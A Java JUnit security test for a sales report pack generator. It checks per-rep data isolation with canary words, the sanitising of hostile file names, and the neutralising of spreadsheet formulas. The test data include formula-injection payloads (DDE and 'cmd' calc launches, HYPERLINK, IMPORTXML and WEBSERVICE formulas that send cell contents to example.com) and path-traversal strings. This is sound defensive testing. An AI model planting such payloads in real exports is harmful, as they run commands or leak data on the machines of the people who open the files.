package dev.filon.reports.pack;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import dev.filon.reports.PackCommand;
import dev.filon.reports.PackFixture;
import dev.filon.reports.PdfText;
import dev.filon.reports.XlsxText;
import dev.filon.reports.answers.ActionFile;
import dev.filon.reports.figures.ActionRecord;
import dev.filon.reports.figures.Rep;
import dev.filon.reports.figures.SheetRows;
import dev.filon.reports.figures.SheetRows.Column;
import dev.filon.reports.figures.SheetRows.Kind;
import dev.filon.reports.figures.Snapshot;
import dev.filon.reports.text.Formats;
import dev.filon.reports.workbook.WorkbookWriter;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSObjectKey;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Nothing of another rep, no file elsewhere, nothing that a spreadsheet would run. */
class SafetyTest {

  /** The long run has -Dfilon.canary.packs=1000. */
  private static final int PACKS = Integer.getInteger("filon.canary.packs", 200);

  private static final int TEAM = 10;
  private static final int NAMES = 10_000;
  private static final int PAYLOADS = 5_000;
  private static final Pattern CANARY = Pattern.compile("(?i)[zm]q\\d{5}q[zm]");

  @TempDir private Path folder;

  /** A word in every text of a rep: zq00017qz for the rep, mq00001qm for the manager. */
  private static void canaries(PackFixture fixture, int reps) throws Exception {
    String word = "'zq' || lpad(cast(i as varchar), 5, '0') || 'qz'";
    String manager = "'mq' || lpad(cast(i // " + TEAM + " as varchar), 5, '0') || 'qm'";
    fixture.sql(
        "create table r as select i, "
            + word
            + " as w, 'R-' || "
            + word
            + " as rep, 'M-' || "
            + manager
            + " as manager from range("
            + reps
            + ") t(i)");
    fixture.sql(
        "create table c as select r.*, k, 'C-' || w || '-' || k as client, 'A-' || w || '-' || k"
            + " as account, 'Client ' || w || ' ' || k as name, 90000.0 / (k + 1) as amount"
            + " from r, range(6) u(k)");
    fixture.sql("alter table fact_action add column if not exists manager_note varchar");
    fixture.sql(
        "insert into dim_rep by name select 1 as rep_key, rep as rep_id, 'Rep ' || w as name, w ||"
            + " '@example.com' as email, manager as manager_id, 'Team ' || w as team, w as region,"
            + " true as is_current from r union all by name select 1 as rep_key, m as rep_id, 'Boss"
            + " ' || substr(m, 3) as name, true as is_current from (select distinct manager as m"
            + " from r)");
    fixture.sql(
        "insert into mart_target by name select rep as rep_id, p as period_kind,"
            + " date '2026-11-16' as period_start, date '2026-11-16' + n as period_end,"
            + " 1000 * n as target_amount, 900 * n as actual_amount, 800 * n as previous_amount,"
            + " 1200 * n as previous_full_amount, 300 * n as margin_amount, 5 as working_days,"
            + " 4 as working_days_elapsed, 850 * n as expected_amount from r,"
            + " (values ('week', 6), ('month', 30), ('quarter', 91), ('year', 365)) v(p, n)");
    fixture.sql(
        "insert into mart_client by name select client as client_id, rep as rep_id, 'client' as"
            + " owner_rule, name, 'Segment ' || w as segment, w as activity_code, 'City ' || w as"
            + " city, 'FR' as country, amount as revenue, amount * 0.9 as revenue_previous, amount"
            + " * 0.3 as margin, case when k < 4 then 'A' else 'B' end as revenue_class, 'A' as"
            + " previous_revenue_class, date '2020-01-01' as first_order_on, date '2026-11-01' as"
            + " last_order_on, 9 as order_days, 3 as families, date '2026-11-02' as"
            + " last_contact_on, 1 as open_claims, amount / 2 as left_to_win from c");
    fixture.sql(
        "insert into dim_client by name select client as client_id, account as account_id, name,"
            + " rep as rep_id, true as is_current from c");
    fixture.sql(
        "insert into dim_account by name select account as account_id, client as client_id,"
            + " true as is_current from c");
    fixture.sql(
        "insert into agg_sales_client_family_month by name select client as client_id,"
            + " 'F-' || w as family, cast(date '2024-11-01' + to_months(cast(m as int)) as date) as"
            + " month_start, amount / 12 as revenue from c, range(24) t(m)");
    fixture.sql(
        "insert into mart_top_flop by name select 'client' as kind, p as period, client as item_id,"
            + " name as label, rep as rep_id, 'volume' as reason_code, date '2026-11-01' as"
            + " period_start, date '2026-11-20' as period_end, amount as revenue, amount * 0.8 as"
            + " revenue_previous, case when k % 2 = 0 then 1 else -1 end * amount * 0.2 as"
            + " change_amount, amount * 0.2 as volume_amount, true as is_news from c, (values"
            + " ('week'), ('month'), ('quarter'), ('year')) v(p)");
    fixture.sql(
        "insert into mart_action by name select 'X-' || w || '-' || k as action_id, case k when 0"
            + " then 'done' when 1 then 'silenced' when 2 then 'carried_over' else 'new' end as"
            + " state, ['reactivation', 'second_activity', 'angry_client', 'growth_pocket',"
            + " 'prospect', 'reactivation'][k + 1] as origin, client as client_id, account as"
            + " account_id, rep as rep_id, manager as manager_id, 'call' as kind, case k when 0"
            + " then 'done' when 1 then 'dropped' when 2 then 'agreed' else 'proposed' end as"
            + " status, case k when 0 then 'signal_gone' else 'by_hand' end as reason_code,"
            + " 'Subject ' || w as subject, date '2026-11-19' as due_on, case k when 0 then date"
            + " '2026-11-18' end as done_on, amount / 9 as expected_amount, case k when 0 then"
            + " amount / 8 end as obtained_amount, k as priority from c");
    fixture.sql(
        "insert into fact_action by name select action_id, rep_id, status, 'Note ' ||"
            + " substr(rep_id, 3) as rep_note, 'Boss says ' || substr(rep_id, 3) as manager_note,"
            + " due_on, done_on, timestamp '2026-11-18 10:00:00' as updated_at from mart_action"
            + " where state <> 'new'");
    fixture.sql(
        "insert into mart_reactivation by name select client as client_id, rep as rep_id,"
            + " 'dormant' as reason_code, date '2026-05-01' as last_order_on, 200 as days_silent,"
            + " 30.0 as cadence, 0.9 as silence_probability, amount as last_year_revenue,"
            + " amount / 3 as at_stake_amount from c");
    fixture.sql(
        "insert into mart_second_activity by name select client as client_id, 'Family ' || w as"
            + " family, rep as rep_id, 'activity_declared' as reason_code, 9 as peers, 0.6 as"
            + " penetration, amount / 4 as gap_amount from c");
    fixture.sql(
        "insert into mart_angry_client by name select client as client_id, rep as rep_id, 'L-' || w"
            + " as claim_id, 'open_dispute' as reason_code, 'Reason ' || w as claim_reason, date"
            + " '2026-10-01' as opened_on, 50 as days_compared, 0.4 as kept_share, amount / 5 as"
            + " damage_amount from c where k = 2");
    fixture.sql(
        "insert into mart_prospect by name select account as account_id, client as client_id, rep"
            + " as rep_id, 'Prospect ' || w || ' ' || k as name, 'follow_up_due' as reason_code,"
            + " true as is_promising, date '2026-11-18' as next_contact_on, 2 as contacts, amount"
            + " as potential, 0.2 as conversion_rate from c where k > 2");
    fixture.sql(
        "insert into mart_growth_pocket_client by name select 'Artisan' as segment, 'Outillage' as"
            + " family, client as client_id, rep as rep_id, amount / 6 as white_space_amount from"
            + " c");
    fixture.sql(
        "insert into mart_abc_cross by name select client as client_id, rep as rep_id, 'A' as"
            + " revenue_class, '1' as potential_class, amount as revenue, amount as left_to_win"
            + " from c");
    fixture.sql(
        "insert into fact_claim by name select 'L-' || w as claim_id, client as client_id,"
            + " date '2026-11-17' as opened_on, 12.5 as amount from c where k = 2");
    fixture.sql(
        "insert into fact_opportunity_stage by name select 'O-' || w || k as opportunity_id,"
            + " account as account_id, rep as rep_id, 'won' as status, date '2026-11-01' as"
            + " created_on, date '2026-11-18' as closed_on, amount, true as is_current from c where"
            + " k < 2");
    fixture.sql(
        "insert into mart_outlook by name select 'O-' || w || '-' || k as opportunity_id, account"
            + " as account_id, client as client_id, rep as rep_id, 'Family ' || w as family, 'Stage"
            + " ' || w as stage, amount, 40 as age_days, 30.0 as typical_age_days, 1 as pushes, 3"
            + " as overdue_days, 0.3 as win_probability, amount * 0.3 as expected_amount, amount *"
            + " 0.4 as year_expected_amount, 'pushed' as reason from c");
    fixture.sql(
        "insert into mart_landing by name select 'rep' as scope, rep as rep_id, h as horizon, date"
            + " '2026-11-01' as period_start, date '2026-11-01' + n as period_end, 5 * n as"
            + " invoiced_amount, n as pipeline_amount, n as run_amount, 6 * n as low_amount, 7 * n"
            + " as mid_amount, 8 * n as high_amount, 9 * n as target_amount, 0.2 as"
            + " target_probability, 6 * n as previous_full_amount, -2 * n as gap_amount from r,"
            + " (values ('month', 29), ('quarter', 60), ('year', 300)) v(h, n)");
    fixture.sql("drop table c").sql("drop table r");
  }

  @Test
  void packsHoldNoWordOfAnotherRep() throws Exception {
    PackFixture fixture = PackFixture.empty(folder);
    canaries(fixture, PACKS / 2);
    fixture.done();
    int looked = 0;
    for (String profile : List.of("working", "archive")) {
      PackCommand command = new PackCommand();
      Path out = folder.resolve(profile);
      assertThat(
              command.run(
                  folder,
                  "--week",
                  PackFixture.WEEK,
                  "--profile",
                  profile,
                  "--locale",
                  profile.equals("working") ? "fr" : "en",
                  "--out",
                  out.toString()))
          .as(command.err())
          .isZero();
      JsonNode manifest = new ObjectMapper().readTree(out.resolve("manifest.json").toFile());
      for (JsonNode entry : manifest.get("packs")) {
        String own = entry.get("rep").asText().substring(2);
        String boss = entry.get("manager").asText().substring(2);
        Set<String> pdf = words(pdf(out.resolve(entry.get("file").asText())));
        assertThat(pdf).as(own).contains(own).isSubsetOf(own, boss);
        Set<String> sheets = words(xlsx(out.resolve(entry.get("workbook").asText())));
        assertThat(sheets).as(own).contains(own).isSubsetOf(own, boss);
        looked++;
      }
      for (JsonNode entry : manifest.get("teams")) {
        String boss = entry.get("manager").asText().substring(2);
        Set<String> allowed = new HashSet<>(Set.of(boss));
        int first = Integer.parseInt(boss.substring(2, 7)) * TEAM;
        for (int rep = first; rep < first + TEAM; rep++) {
          allowed.add(String.format(Locale.ROOT, "zq%05dqz", rep));
        }
        assertThat(words(pdf(out.resolve(entry.get("file").asText())))).isSubsetOf(allowed);
        assertThat(words(xlsx(out.resolve(entry.get("workbook").asText())))).isSubsetOf(allowed);
      }
    }
    assertThat(looked).isEqualTo(PACKS);
  }

  /** Canaries, also those that a line end cuts in two. */
  private static Set<String> words(String text) {
    Set<String> words = new TreeSet<>();
    for (String variant : List.of(text, text.replaceAll("\\s+", ""))) {
      Matcher matcher = CANARY.matcher(variant);
      while (matcher.find()) {
        words.add(matcher.group().toLowerCase(Locale.ROOT));
      }
    }
    return words;
  }

  /** Text, metadata, strings and the contents of every stream: attachments and XMP are streams. */
  private static String pdf(Path file) throws IOException {
    StringBuilder all = new StringBuilder(PdfText.everything(file)).append(file.getFileName());
    try (PDDocument document = Loader.loadPDF(file.toFile())) {
      for (COSObjectKey key : document.getDocument().getXrefTable().keySet()) {
        if (document.getDocument().getObjectFromPool(key).getObject() instanceof COSStream stream) {
          try (InputStream in = stream.createInputStream()) {
            all.append('\n').append(new String(in.readAllBytes(), StandardCharsets.ISO_8859_1));
          }
        }
      }
    }
    return all.toString();
  }

  private static String xlsx(Path file) throws IOException {
    return file.getFileName() + "\n" + String.join("\n", XlsxText.parts(file).values());
  }

  private static String hostile(Random random) {
    List<String> pieces =
        List.of(
            "../",
            "..\\",
            "/etc/",
            "C:\\",
            "CON",
            "nul",
            "aux.",
            "COM1",
            "\u202e",
            "\u200f",
            "\u0000",
            "\n",
            "%2e%2e/",
            "~",
            "$HOME",
            "`x`",
            "'",
            "\"",
            "é",
            "ß",
            "İ",
            "ı",
            "A",
            "a",
            " ",
            ".",
            "😀",
            "\ufeff",
            "ﬀ",
            "x".repeat(300),
            ":",
            "*",
            "?",
            "|",
            "<",
            "&",
            "-",
            "0");
    StringBuilder text = new StringBuilder();
    for (int i = random.nextInt(6); i >= 0; i--) {
      text.append(pieces.get(random.nextInt(pieces.size())));
    }
    return text.toString();
  }

  @Test
  void hostileNamesAndIdsStayInTheFolderAndDoNotCollide() throws Exception {
    Random random = new Random(7);
    Set<String> ids = new HashSet<>();
    Set<String> files = new HashSet<>();
    Path target = Files.createDirectories(folder.resolve("in"));
    while (ids.size() < NAMES) {
      String id = hostile(random);
      if (!ids.add(id)) {
        continue;
      }
      Rep rep = new Rep(id, hostile(random), hostile(random), null);
      for (String file :
          List.of(
              PackNames.file(rep, Locale.FRENCH, Profile.ARCHIVE),
              PackNames.file(rep, Locale.FRENCH, Profile.WORKING),
              PackNames.team(rep, Locale.FRENCH, Profile.ARCHIVE),
              PackNames.workbook(PackNames.file(rep, Locale.FRENCH, Profile.WORKING)),
              PackNames.workbook(PackNames.team(rep, Locale.FRENCH, Profile.ARCHIVE)))) {
        assertThat(file)
            .matches("[a-z0-9][a-z0-9-]*\\.fr(\\.working)?\\.(pdf|xlsx)")
            .hasSizeLessThan(100);
        assertThat(file.substring(0, file.indexOf('.')))
            .doesNotMatch("con|prn|aux|nul|com\\d|lpt\\d");
        assertThat(files.add(file)).as(file).isTrue();
      }
      WholeFile.write(
          target.resolve(PackNames.file(rep, Locale.FRENCH, Profile.ARCHIVE)), new byte[] {1});
    }
    try (Stream<Path> inside = Files.list(target);
        Stream<Path> beside = Files.list(folder)) {
      assertThat(inside.count()).isEqualTo(NAMES);
      assertThat(beside).containsExactly(target);
    }
  }

  private static List<String> payloads() {
    List<String> starts =
        List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "=\u202e", "'=");
    List<String> bodies =
        List.of(
            "1+1",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://example.com?\"&A1,\"x\")",
            "IMPORTXML(CONCAT(\"http://example.com\",A1),\"//a\")",
            "DDE(\"cmd\";\"/C calc\";\"x\")",
            "WEBSERVICE(\"http://example.com\")",
            "SUM(A1:A9)",
            "<f>1+1</f>",
            "]]><f>1</f>",
            "\"; =1+1; \"",
            "@SUM(1)",
            "+-@=1");
    List<String> all = new ArrayList<>();
    for (int i = 0; all.size() < PAYLOADS; i++) {
      all.add(starts.get(i % starts.size()) + bodies.get(i / starts.size() % bodies.size()) + i);
    }
    return all;
  }

  @Test
  void formulasStayTextInWorkbooks() throws Exception {
    List<String> payloads = payloads();
    Snapshot snapshot =
        new Snapshot(
            7,
            LocalDate.of(2026, 11, 20),
            "b",
            payloads.get(1),
            payloads.get(2),
            LocalDateTime.of(2026, 11, 21, 4, 30),
            List.of(),
            List.of(),
            List.of());
    byte[] bytes =
        new WorkbookWriter(Locale.FRENCH, snapshot)
            .write(
                new Rep("R1", payloads.get(3), "M1", payloads.get(4)),
                payloads.get(5),
                List.of(
                    new SheetRows(
                        "portfolio",
                        List.of(new Column("client", Kind.TEXT), new Column("city", Kind.TEXT)),
                        payloads.stream().map(text -> List.<Object>of(text, text)).toList())));
    Path file = Files.write(folder.resolve("x.xlsx"), bytes);
    Map<String, String> parts = XlsxText.parts(file);
    assertThat(parts.keySet())
        .noneMatch(name -> name.matches(".*(vba|external|connection|calcChain|query).*"));
    parts.forEach(
        (name, xml) -> {
          if (name.startsWith("xl/worksheets/")) {
            assertThat(xml).as(name).doesNotContain("<f", "hyperlink", "t=\"str\"", "ddeLink");
          }
        });
    List<List<Object>> rows = XlsxText.sheets(file).get("Portefeuille");
    assertThat(rows).hasSize(PAYLOADS + 1);
    for (int i = 0; i < PAYLOADS; i++) {
      String text = Formats.label(payloads.get(i));
      assertThat(rows.get(i + 1)).containsExactly(text, text);
    }
    Matcher cells =
        Pattern.compile("<c r=\"[AB]\\d+\"[^>]*>").matcher(parts.get("xl/worksheets/sheet1.xml"));
    int found = 0;
    while (cells.find()) {
      assertThat(cells.group()).contains("t=\"s\"");
      found++;
    }
    assertThat(found).isEqualTo(2 * (PAYLOADS + 1));
  }

  @Test
  void notesThatAreFormulasAreTextInTheActionsFile() throws Exception {
    List<ActionRecord> actions =
        payloads().stream()
            .map(
                note ->
                    new ActionRecord(
                        "X1",
                        "C1",
                        null,
                        "R1",
                        "M1",
                        "call",
                        null,
                        LocalDate.of(2026, 11, 20),
                        "done",
                        null,
                        null,
                        null,
                        note,
                        note,
                        null))
            .toList();
    int read = 0;
    try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(ActionFile.text(actions))) {
      for (CsvRecord record : reader) {
        for (String cell : record.getFields()) {
          assertThat(cell).doesNotMatch("(?s)[\\s\\u00a0\\u202e]*[=+\\-@].*");
        }
        read++;
      }
    }
    assertThat(read).isEqualTo(PAYLOADS + 1);
  }
}
